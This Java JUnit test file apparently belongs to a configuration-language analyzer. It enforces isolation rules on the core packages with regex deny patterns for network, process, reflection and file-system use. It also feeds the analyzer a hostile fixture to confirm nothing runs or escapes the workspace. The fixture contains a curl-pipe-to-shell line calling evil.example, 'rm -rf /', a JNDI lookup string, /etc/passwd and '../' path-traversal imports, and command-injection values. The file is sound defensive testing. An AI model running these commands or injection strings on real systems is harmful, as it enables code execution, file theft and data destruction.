package dev.topo;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.topo.check.Analyzer;
import dev.topo.check.Cancellation;
import dev.topo.check.Checker;
import dev.topo.check.Config;
import dev.topo.check.Finding;
import dev.topo.check.rules.Rules;
import dev.topo.workspace.FileSystemSources;
import dev.topo.workspace.ParseCache;
import dev.topo.workspace.SourceProvider;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The checker evaluates nothing and opens nothing. The core packages (model, syntax,
 * workspace, check, knowledge) may import only an allow-list of the JDK (which packages of
 * topo and which libraries each may use is {@link LayeringTest}'s), and their code may
 * not name sockets, URLs, processes, script engines, reflection, class loading,
 * deserialisation, the file system or the process's standard streams, with two sanctioned
 * exceptions: {@code workspace/FileSystemSources.java} reads documents from the disk (the
 * only door analysis has, see {@link SourceProvider}), and {@code knowledge/KnowledgeBase.java}
 * reads its own entries from the jar's resources. Comments and string literals are not code,
 * so that saying what is forbidden is allowed.
 */
class CoreIsolationTest {
  static final List<String> CORE = List.of("model", "syntax", "yaml", "workspace", "check", "knowledge", "ide", "diagram");

  /** What any core file may import from the JDK; imports of topo and of libraries are LayeringTest's. */
  static final List<String> ALLOWED_JDK_IMPORTS = List.of("java.util.", "java.math.", "java.text.", "java.net.URI;",
      "java.net.URISyntaxException;", "java.net.URLEncoder;", "java.nio.CharBuffer;", "java.nio.charset.", "java.io.IOException;",
      "java.io.UncheckedIOException;", "java.io.StringReader;");
  static final List<String> JDK = List.of("java.", "javax.", "jdk.", "sun.", "com.sun.");

  /** The two sanctioned readers, and what each may use beyond the rest. */
  static final Map<String, List<String>> SANCTIONED_IMPORTS = Map.of(
      "workspace/FileSystemSources.java", List.of("java.io.InputStream;", "java.nio.file.Files;", "java.nio.file.Path;"),
      "knowledge/KnowledgeBase.java", List.of("java.io.InputStream;"));
  static final Map<String, Set<String>> SANCTIONED_USES = Map.of(
      "workspace/FileSystemSources.java", Set.of("the file system"),
      "knowledge/KnowledgeBase.java", Set.of("resources"));

  /** What no core code may name, whatever it imports (java.lang needs no import), by what it is. */
  static final Map<String, Pattern> FORBIDDEN = Map.of(
      "the network", Pattern.compile("\\b(Socket|ServerSocket|DatagramSocket|SocketChannel|URLConnection|HttpURLConnection"
          + "|HttpClient|URL|InetAddress|InetSocketAddress)\\b|\\.toURL\\s*\\(|openConnection|openStream|java\\.net\\.(?!URI\\b|URISyntaxException\\b)"),
      "processes", Pattern.compile("\\b(ProcessBuilder|Process|ProcessHandle)\\b|Runtime\\s*\\.\\s*getRuntime|\\.exec\\s*\\("),
      "evaluation", Pattern.compile("\\b(ScriptEngine|ScriptEngineManager|ClassLoader|URLClassLoader|MethodHandles|ObjectInputStream"
          + "|InitialContext|JavaCompiler|JShell)\\b|javax\\.(script|tools|naming)|jdk\\.jshell|java\\.rmi"
          + "|Class\\s*\\.\\s*forName|\\.(getMethod|getDeclaredMethod|getField|getDeclaredField|getConstructor"
          + "|getDeclaredConstructor|newInstance|setAccessible|invoke|defineClass|readObject)\\s*\\(|java\\.lang\\.(reflect|invoke)"),
      "the file system", Pattern.compile("\\b(Files|Paths|Path|File|FileInputStream|FileOutputStream|FileReader|FileWriter"
          + "|RandomAccessFile|FileChannel|FileSystems)\\b|java\\.nio\\.(file|channels)|java\\.io\\.File"),
      "resources", Pattern.compile("\\.getResource(AsStream)?\\s*\\(|getSystemResource"),
      "the standard streams", Pattern.compile("System\\s*\\.\\s*(out|err|in|console|load|loadLibrary|exit)\\b"));

  private static final Pattern IMPORT = Pattern.compile("(?m)^\\s*import\\s+(static\\s+)?([\\w.*]+)\\s*;");

  @Test
  void theCorePackagesOpenNothingAndEvaluateNothing() throws IOException {
    Path main = TestFiles.repo().resolve("server/src/main/java/dev/topo");
    List<String> violations = new ArrayList<>();
    int files = 0;
    for (String pkg : CORE) {
      try (Stream<Path> walk = Files.walk(main.resolve(pkg))) {
        for (Path file : walk.filter(p -> p.toString().endsWith(".java")).sorted().toList()) {
          String name = main.relativize(file).toString().replace('\\', '/');
          violations.addAll(violations(name, Files.readString(file)));
          files++;
        }
      }
    }
    assertTrue(files >= 60, "the scan saw the core's sources: " + files + " files under " + main);
    assertEquals(List.of(), violations);
  }

  /** The sanctioned readers are still where the allow-list says, and still need what it allows. */
  @Test
  void theSanctionedReadersAreTheOnesThatRead() throws IOException {
    Path main = TestFiles.repo().resolve("server/src/main/java/dev/topo");
    String fileSystem = code(Files.readString(main.resolve("workspace/FileSystemSources.java")));
    assertTrue(FORBIDDEN.get("the file system").matcher(fileSystem).find(), "FileSystemSources reads the disk");
    String knowledge = code(Files.readString(main.resolve("knowledge/KnowledgeBase.java")));
    assertTrue(FORBIDDEN.get("resources").matcher(knowledge).find(), "KnowledgeBase reads resources");
    assertFalse(FORBIDDEN.get("the file system").matcher(knowledge).find(), "but not the file system");
  }

  /** The scan itself: it finds what it forbids in code, and not in comments or strings. */
  @Test
  void theScanFindsForbiddenCodeButNotWordsAboutIt() {
    assertEquals(List.of("check/X.java: imports java.net.Socket"), violations("check/X.java", "import java.net.Socket;\nclass X {}"));
    assertEquals(List.of("check/X.java: imports javax.script.ScriptEngine", "check/X.java: uses evaluation (ScriptEngine)"),
        violations("check/X.java", "import javax.script.ScriptEngine;\nclass X { ScriptEngine e; }"));
    assertEquals(1, violations("check/X.java", "class X { void f() throws Exception { Runtime.getRuntime().exec(\"ls\"); } }").size());
    assertEquals(1, violations("check/X.java", "class X { Object f() throws Exception { return Class.forName(\"a.B\"); } }").size());
    assertEquals(1, violations("check/X.java", "class X { Object f() throws Exception { return java.nio.file.Files.readString(null); } }").size());
    assertEquals(1, violations("model/X.java", "class X { void f() { System.out.println(); } }").size());
    assertEquals(1, violations("check/X.java", "class X { Object f() { return X.class.getResourceAsStream(\"x\"); } }").size());
    assertEquals(List.of(), violations("check/X.java",
        "/** Never opens a Socket, never uses Files or Runtime.getRuntime(). */\nclass X { String s = \"ProcessBuilder\"; char c = '\"'; // Files.\n"
            + " String t = \"\"\"\n   Class.forName(\"x\")\n   \"\"\"; }"));
    assertEquals(List.of(), violations("workspace/FileSystemSources.java", "import java.nio.file.Files;\nclass F { Object f() { return Files.exists(null); } }"));
    assertEquals(1, violations("workspace/FileSystemSources.java", "class F { void f() { new ProcessBuilder(); } }").size());
  }

  static List<String> violations(String name, String source) {
    List<String> found = new ArrayList<>();
    String code = code(source);
    List<String> extra = SANCTIONED_IMPORTS.getOrDefault(name, List.of());
    Matcher imports = IMPORT.matcher(code);
    while (imports.find()) {
      String imported = imports.group(2) + ";";
      if (JDK.stream().anyMatch(imported::startsWith)
          && Stream.concat(ALLOWED_JDK_IMPORTS.stream(), extra.stream()).noneMatch(imported::startsWith)) {
        found.add(name + ": imports " + imports.group(2));
      }
    }
    String body = IMPORT.matcher(code).replaceAll("");
    Set<String> sanctioned = SANCTIONED_USES.getOrDefault(name, Set.of());
    FORBIDDEN.forEach((what, pattern) -> {
      if (!sanctioned.contains(what)) {
        Matcher m = pattern.matcher(body);
        if (m.find()) {
          found.add(name + ": uses " + what + " (" + m.group().strip() + ")");
        }
      }
    });
    return found;
  }

  /** The source with comments, string and character literals (text blocks too) blanked out. */
  static String code(String source) {
    StringBuilder out = new StringBuilder(source.length());
    int i = 0;
    int n = source.length();
    while (i < n) {
      char c = source.charAt(i);
      if (source.startsWith("//", i)) {
        while (i < n && source.charAt(i) != '\n') {
          i++;
        }
      } else if (source.startsWith("/*", i)) {
        int end = source.indexOf("*/", i + 2);
        i = end < 0 ? n : end + 2;
        out.append(' ');
      } else if (source.startsWith("\"\"\"", i)) {
        int end = source.indexOf("\"\"\"", i + 3);
        i = end < 0 ? n : end + 3;
        out.append("\"\"");
      } else if (c == '"' || c == '\'') {
        i++;
        while (i < n && source.charAt(i) != c && source.charAt(i) != '\n') {
          i += source.charAt(i) == '\\' ? 2 : 1;
        }
        i++;
        out.append(c).append(c);
      } else {
        out.append(c);
        i++;
      }
    }
    return out.toString();
  }

  /**
   * At run time: a file of shell-, script- and injection-looking text, with imports by URL,
   * absolute and escaping paths, is analysed by reading only documents inside the workspace
   * through the source provider (the only door analysis has), and each foreign import is an
   * import-error. That imports refuse schemes, absolute paths, ".." and links out of the
   * root on their real path is ProgramLoaderTest's (pathsThatLeaveTheRootOrAreAbsoluteAreRefused,
   * aSymbolicLinkOutOfTheRootIsRefusedOnItsRealPath).
   */
  @Test
  void analysingHostileTextOnlyReadsDocumentsInsideTheWorkspace(@TempDir Path dir) throws IOException {
    Path workspace = Files.createDirectory(dir.resolve("ws"));
    Path marker = dir.resolve("pwned");
    String text = String.join("\n",
        "#!/bin/sh",
        "// $(curl -s http://evil.example/x | sh) `rm -rf /` ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
        "import \"http://evil.example/payload.topo\"",
        "import \"https://evil.example/payload.topo\"",
        "import \"ftp://evil.example/payload.topo\"",
        "import \"jar:file:///tmp/x.jar!/a.topo\"",
        "import \"file:///etc/passwd\"",
        "import \"//evil.example/share/x.topo\"",
        "import \"\\\\\\\\evil.example\\\\share\\\\x.topo\"",
        "import \"../../../../etc/passwd\"",
        "import \"$(touch " + marker.toString().replace('\\', '/') + ").topo\"",
        "host web {",
        "  os linux \"$(reboot)\"",
        "  runtime docker \"`id`\"",
        "  library openssl \"${jndi:ldap://evil.example/a}\"",
        "  container c { os linux; image \"registry.example.com/x:1.0; rm -rf /\"; cpu 1; memory 1Gi }",
        "}");
    Path mainFile = Files.writeString(workspace.resolve("main.topo"), text);
    List<URI> read = new CopyOnWriteArrayList<>();
    List<URI> resolved = new CopyOnWriteArrayList<>();
    FileSystemSources disk = new FileSystemSources();
    SourceProvider recording = new SourceProvider() {
      @Override
      public Optional<String> read(URI uri) {
        read.add(uri);
        return disk.read(uri);
      }

      @Override
      public URI canonical(URI uri) {
        resolved.add(uri);
        return disk.canonical(uri);
      }
    };
    URI main = mainFile.toUri();
    List<Finding> findings = new Analyzer(recording, new ParseCache(), workspace.toUri(), new Checker(Rules.all(), Config.DEFAULT))
        .analyze(main, text, Cancellation.NONE).findings();

    long importErrors = findings.stream().filter(f -> f.rule().id().equals("import-error")).count();
    assertEquals(9, importErrors, "every import is refused or not found: " + findings);
    Path root = workspace.toRealPath();
    for (URI uri : read) {
      assertEquals("file", uri.getScheme(), "only files are read: " + read);
      Path path = Path.of(uri);
      assertTrue(path.normalize().startsWith(workspace) && (!Files.exists(path) || path.toRealPath().startsWith(root)),
          "only documents inside the workspace are read (or looked for): " + uri);
    }
    // Where a path really leads (through links) is asked of every import path, in or out,
    // to compare real paths with the root; that looks at no content.
    assertTrue(resolved.stream().allMatch(uri -> uri.getScheme().equals("file")), "only file paths are resolved: " + resolved);
    assertFalse(Files.exists(marker), "nothing in the text was run");
  }
}
